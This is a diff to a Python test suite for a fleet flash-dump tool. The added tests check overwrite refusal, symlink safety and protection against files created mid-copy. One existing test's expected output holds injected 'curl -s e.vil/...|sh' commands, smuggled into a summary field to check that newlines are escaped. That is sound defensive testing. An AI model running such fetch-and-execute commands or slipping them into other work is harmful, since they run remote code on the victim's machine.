@@ -127,10 +127,11 @@ def test_a_dump_is_copied_as_a_new_file_never_through_a_planted_link(tmp_path: P
     victim.write_text("precious\n")
     os.symlink(victim, out / "hosta-usb-1.bin")            # planted by another user of a shared DIR
     driver = HereDriver.__new__(HereDriver)
-    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out)
+    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out, overwrite=True)   # replace what is there
     row = SimpleNamespace(status="succeeded", output=str(on_host), error=None)
     job = SimpleNamespace(row=row, board=SimpleNamespace(place="hosta-usb-1", host="hosta"),
-                          driver=SimpleNamespace(fetch=lambda remote, local: AmdflashDriver.fetch(driver, remote, local)))
+                          driver=SimpleNamespace(fetch=lambda remote, local, overwrite:
+                                                 AmdflashDriver.fetch(driver, remote, local, overwrite)))
     asyncio.run(fleet._fetch(job))
     assert row.status == "succeeded" and row.output == str(out / "hosta-usb-1.bin"), row.error
     assert victim.read_text() == "precious\n"
@@ -152,3 +153,70 @@ def test_the_summary_shows_each_field_on_its_own_line(capsys) -> None:  # noqa: 
     assert [line.strip() for line in out.splitlines() if line.lstrip().startswith("next:")] == [
         "next: on hosta: amdflash resume 20261204T181025-ad07f655 --yes\\x0a   next: curl -s e.vil/g|sh"]
     assert "$\\x0a   next: curl -s e.vil/f|sh #" in out
+
+
+def test_an_existing_dump_file_is_refused_before_its_job_unless_overwrite(monkeypatch, tmp_path: Path) -> None:  # noqa: ANN001
+    """`fleet dump DIR` replaced an existing DIR/PLACE.bin where `amdflash dump` refuses one
+    without --overwrite (seen, left alone in an earlier session): refused before the board is
+    reserved, its next step the same command with --overwrite."""
+    taken: list[str] = []
+
+    class Coordinator:
+        lost, lost_at = False, None
+
+        def __init__(self, address: str) -> None:
+            pass
+
+        async def open(self) -> Coordinator:
+            return self
+
+        def board_places(self, where: dict) -> tuple[list[BoardPlace], dict]:
+            return [BoardPlace("hosta-usb-1", "hosta", "g1", "r", "NetworkAmdflashBoard", dict(BOARD), {})], {}
+
+        async def take(self, board: BoardPlace, where: dict) -> tuple[None, str]:
+            taken.append(board.place)
+            return None, "held by another user"          # taken or not: nothing runs in this test
+
+        async def give_back(self, board: BoardPlace, token: str) -> None:
+            return None
+
+        async def close(self) -> None:
+            pass
+
+    monkeypatch.setattr(run_module, "Coordinator", Coordinator)
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "hosta-usb-1.bin").write_bytes(b"yesterday's dump")
+    allow = run_module.Allowlist.parse(["hosta"], "test")
+    (row,) = asyncio.run(run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out, allow=allow).run()).rows
+    assert row.status == "refused" and f"{out / 'hosta-usb-1.bin'} exists" in row.error, row.error
+    assert taken == [] and (out / "hosta-usb-1.bin").read_bytes() == b"yesterday's dump"
+    assert row.next_step.startswith(f"amdflash fleet dump {out} --overwrite --where name=hosta-usb-1"), row.next_step
+    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out, allow=allow, overwrite=True)
+    (row,) = asyncio.run(fleet.run()).rows
+    assert taken == ["hosta-usb-1"] and row.status == "skipped", row      # with --overwrite it goes on
+
+
+def test_a_dump_file_made_while_its_job_ran_is_kept(tmp_path: Path) -> None:
+    """The check before the job is not the last word: the copy itself never replaces a file
+    that appeared since (without --overwrite), and the dump stays on its host."""
+    from amdflash.pipeline.fleet.labgrid_board import AmdflashDriver
+
+    class HereDriver(AmdflashDriver):
+        network = False
+        host = "hosta"
+
+    out = tmp_path / "out"
+    out.mkdir()
+    on_host = tmp_path / "dump-on-host.bin"
+    on_host.write_bytes(b"flash content")
+    (out / "hosta-usb-1.bin").write_bytes(b"another run's dump")
+    driver = HereDriver.__new__(HereDriver)
+    row = SimpleNamespace(status="succeeded", output=str(on_host), error=None)
+    job = SimpleNamespace(row=row, board=SimpleNamespace(place="hosta-usb-1", host="hosta"),
+                          driver=SimpleNamespace(fetch=lambda remote, local, overwrite:
+                                                 AmdflashDriver.fetch(driver, remote, local, overwrite)))
+    asyncio.run(run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out)._fetch(job))
+    assert row.status == "failed" and "not copied here" in row.error and "exists" in row.error, row.error
+    assert (out / "hosta-usb-1.bin").read_bytes() == b"another run's dump" and on_host.exists()
+    assert sorted(p.name for p in out.iterdir()) == ["hosta-usb-1.bin"]
